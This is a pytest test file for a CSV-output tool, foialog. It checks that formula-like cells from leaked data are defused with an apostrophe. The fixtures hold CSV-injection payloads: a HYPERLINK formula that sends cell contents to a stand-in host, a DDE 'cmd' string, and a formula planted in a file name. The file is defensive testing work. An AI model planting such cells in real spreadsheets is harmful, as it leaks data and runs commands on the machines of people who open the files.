"""Safe CSVs (issue 15 item 16): a leak's formula-like cells reach spreadsheets only as text."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from click.testing import CliRunner

from foialog.cli import cli
from foialog.outputs import spreadsheet_raw, spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'
#: Each cell a leak may plant, and whether a spreadsheet program would run it.
CELLS = {
    HYPERLINK: True,
    "+cmd|' /C calc'!A0": True,
    "@SUM(1+1)": True,
    "-2+3": True,
    "\t=1+3": True,
    "\r=1+3": True,
    "'=quoted already": True,
    "''@twice": True,
    "-5": False,
    "+3.5": False,
    "-1,234.5": False,
    "'apostrophe": False,
    "plain": False,
    "": False,
}
#: Agency names a leak might hold: formula-like ones among real agencies.
AGENCIES = ["Interpol", "RCMP", HYPERLINK, "@SUM(1+1) Police", "+Europol", "'=already Police"]


def test_formula_like_cells_get_one_apostrophe_and_come_back_exactly() -> None:
    frame = pd.DataFrame({"text": list(CELLS), "n": pd.array(range(len(CELLS)), dtype="Int64")})
    safe = spreadsheet_safe(frame)
    for raw, cell in zip(CELLS, safe["text"], strict=True):
        assert cell == ("'" + raw if CELLS[raw] else raw), repr(raw)
    pd.testing.assert_frame_equal(spreadsheet_raw(safe), frame)
    assert frame["text"].tolist() == list(CELLS)  # the input frame is left as it was


def _leak(folder: Path) -> Path:
    folder.mkdir()
    rows = [["Agency", "Searches", "Date", "Note"]]
    notes = [c for c in CELLS if c]
    for n, agency in enumerate(AGENCIES):
        rows.append([agency, str(10 + n), f"2020-01-{n + 1:02d}", notes[n % len(notes)]])
    # A file name can carry a formula too: it becomes source_file in every table.
    with (folder / "=cmd.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return folder


def _cells(path: Path) -> set[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {cell for row in csv.reader(fh) for cell in row}


def _unsafe(cells: set[str]) -> set[str]:
    return {c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"} or c.startswith("-2")}


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("csv")
    leak = _leak(tmp / "leak")
    safe, raw = tmp / "safe", tmp / "raw"
    for out, extra in ((safe, []), (raw, ["--raw-csv"])):
        args = ["run", str(leak), "-o", str(out), "-q", "--workers", "0", *extra]
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 0, result.output
    return safe, raw


def test_no_csv_of_a_run_holds_a_cell_a_spreadsheet_would_run(runs: tuple[Path, Path]) -> None:
    safe, _ = runs
    written = sorted(safe.glob("*.csv"))
    assert {p.stem for p in written} >= {"records", "agencies", "documents", "agencies_monthly"}
    everywhere: set[str] = set()
    for path in written:
        cells = _cells(path)
        assert not _unsafe(cells), f"{path.name}: {_unsafe(cells)}"
        everywhere |= cells
    assert "'" + HYPERLINK in everywhere
    assert "'=cmd.csv" in everywhere
    assert json.loads((safe / "run.json").read_text())["csv"] == "safe"


def test_databases_and_exports_keep_the_raw_values(runs: tuple[Path, Path]) -> None:
    safe, _ = runs
    with sqlite3.connect(safe / "foialog.sqlite") as con:
        agencies = {r[0] for r in con.execute("select agency_raw from records")}
        files = {r[0] for r in con.execute("select source_file from documents")}
    assert HYPERLINK in agencies
    assert "@SUM(1+1) Police" in agencies
    assert files == {"=cmd.csv"}
    # foialog export reads the safe CSVs back: the apostrophes come off again.
    result = CliRunner().invoke(cli, ["export", str(safe), "-f", "duckdb", "-f", "parquet"])
    assert result.exit_code == 0, result.output
    with duckdb.connect(str(safe / "foialog.duckdb")) as con:
        raw = {r[0] for r in con.execute("select agency_raw from records").fetchall()}
    assert raw == agencies
    parquet = pd.read_parquet(safe / "records.parquet")
    assert set(parquet["agency_raw"]) == agencies
    assert set(parquet["source_file"]) == {"=cmd.csv"}


def test_raw_csv_writes_the_cells_as_read(runs: tuple[Path, Path]) -> None:
    safe, raw = runs
    cells = _cells(raw / "records.csv")
    assert HYPERLINK in cells
    assert "=cmd.csv" in cells
    assert json.loads((raw / "run.json").read_text())["csv"] == "raw"
    # Re-exported raw, a safe run's CSVs match the raw run's byte for byte.
    result = CliRunner().invoke(cli, ["export", str(safe), "-f", "csv", "--raw-csv"])
    assert result.exit_code == 0, result.output
    assert (safe / "records.csv").read_bytes() == (raw / "records.csv").read_bytes()
    assert json.loads((safe / "run.json").read_text())["csv"] == "raw"
    result = CliRunner().invoke(cli, ["export", str(safe), "-f", "csv"])
    assert not _unsafe(_cells(safe / "records.csv"))
